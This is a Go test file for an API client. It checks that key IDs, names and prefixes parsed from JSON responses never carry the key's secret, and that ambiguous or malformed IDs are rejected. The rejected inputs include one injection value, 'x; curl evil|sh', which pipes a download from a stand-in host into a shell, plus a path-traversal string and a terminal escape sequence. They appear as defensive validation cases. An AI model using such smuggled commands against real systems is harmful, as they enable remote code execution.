package client

import (
	"strings"
	"testing"
)

// TestTheIDIsThatOfTheKeyInTheAnswer, and is sure only where nothing else in it
// could be meant.
func TestTheIDIsThatOfTheKeyInTheAnswer(t *testing.T) {
	t.Parallel()
	const s = `"secret":"` + testSecret + `"`
	for _, test := range []struct {
		text, id string
		sure     bool
	}{
		{madeKey, "k1", true},
		{`{"data":` + madeKey + `}`, "k1", true},
		{`{"owner":{"id":"usr_1"},"data":` + madeKey + `}`, "k1", true},
		{`{"id":"req_77","data":` + madeKey + `}`, "k1", true},
		{`{"id":"req_77","anything":{"key":` + madeKey + `}}`, "k1", true},
		{`{"id":"k","data":{` + s + `}}`, "k", true},
		{`{"id":"k","owner":{"id":"usr_1"},"data":{` + s + `}}`, "k", false},
		{`{"owner":{"id":"usr_1"},"data":{"id":"k"},` + s + `}`, "k", true},
		{`{"owner":{"id":"usr_1"},"record":{"id":"k"},` + s + `}`, "usr_1", false},
		{`{"a":{"id":"a",` + s + `},"b":{"id":"b",` + s + `}}`, "a", false},
		{`{"id":"a","id":"b",` + s + `}`, "a", false},
		{`{"id":"k"}`, "k", true},
		{`{"owner":{"id":"usr_1"},"data":{"id":"k"}}`, "k", true},
		{`{"id":"req_77","data":{"id":"k"}}`, "req_77", false},
		{`{"owner":{"id":"usr_1"},"record":{"id":"k"}}`, "usr_1", false},
		{`{"keys":[{"id":"x1","key":"` + testSecret + `"}],"id":"KID"}`, "KID", true},
		{`[` + madeKey + `]`, "", false},
		// an id that nobody could ask with
		{`{"id":"` + strings.Repeat("k", maxIDLength+1) + `",` + s + `}`, "", false},
		{`{"id":"x; curl evil|sh",` + s + `}`, "", false},
		{`{"id":"a/../b",` + s + `}`, "", false},
		{`{"id":"\u001b[2J",` + s + `}`, "", false},
	} {
		got, _ := testCreated([]byte(test.text))
		if got.Key.ID != test.id || got.Receipt != test.sure {
			t.Errorf("%.120s: got %q, %v", test.text, got.Key.ID, got.Receipt)
		}
	}
}

func TestTheSecretOfAnotherKeyIsNotTaken(t *testing.T) {
	t.Parallel()
	const other = "tk_fedcba9876543210fedcba9876543210"
	for text, want := range map[string]string{
		`{"keys":[{"id":"x1","key":"` + other + `"}],"id":"KID"}`:                            "",
		`{"keys":[{"id":"x1","key":"` + other + `"}],"id":"KID","key":"` + testSecret + `"}`: testSecret,
		`{"id":"k","texts":["` + testSecret + `"]}`:                                          "",
		`[` + madeKey + `]`: "",
		`{"id":"k","secret":"` + testSecret + `","key":"` + other + `"}`:              "",
		`{"id":"k","secret":"` + testSecret + `","inner":{"secret":"` + other + `"}}`: "",
		`{"id":"k","secret":"` + testSecret + `","key":"` + testSecret + `"}`:         testSecret,
	} {
		if got, _ := testCreated([]byte(text)); got.Secret.Reveal() != want {
			t.Errorf("%s: got %q", text, got.Secret.Reveal())
		}
	}
}

func TestWhatHoldsTheSecretIsNotShown(t *testing.T) {
	t.Parallel()
	part := testSecret[len(testPrefix)+publicLength:][:leakingLength]
	for _, test := range []struct{ id, name, prefix, wantID, wantName, wantPrefix string }{
		{testSecret, testSecret, testSecret, "", "", testSecret[:12]},
		{"x" + testSecret + "x", "my " + testSecret, testSecret[:24] + "...", "", "", ""},
		{part, part, "tk_01234567", "", "", "tk_01234567"},
		{part[1:], "ci", part + "...", part[1:], "ci", ""},
		{"k1", testSecret[:len(testPrefix)+publicLength], "", "k1", testSecret[:len(testPrefix)+publicLength], ""},
	} {
		text := `{"id":"` + test.id + `","name":"` + test.name + `","prefix":"` + test.prefix + `","key":"` + testSecret + `"}`
		got, err := testCreated([]byte(text))
		key := got.Key
		if err != nil || got.Secret.Reveal() != testSecret || key.ID != test.wantID || key.Name != test.wantName || key.Prefix != test.wantPrefix || got.Receipt != (key.ID != "") {
			t.Errorf("%s: got %+v, %v", text, got, err)
		}
	}
}

func TestTheDetailsOfAKeyHoldNoSecret(t *testing.T) {
	t.Parallel()
	key := withoutSecret(Key{
		Scopes:  []Scope{"read", Scope(testSecret)},
		Details: []Detail{{"a", testSecret}, {"b", []string{"x", testSecret}}, {"c", "kept"}, {"d", true}},
	}, testSecret, testPrefix)
	if key.Scopes != nil || len(key.Details) != 2 || key.Details[0].Name != "c" {
		t.Errorf("got %+v", key)
	}
}
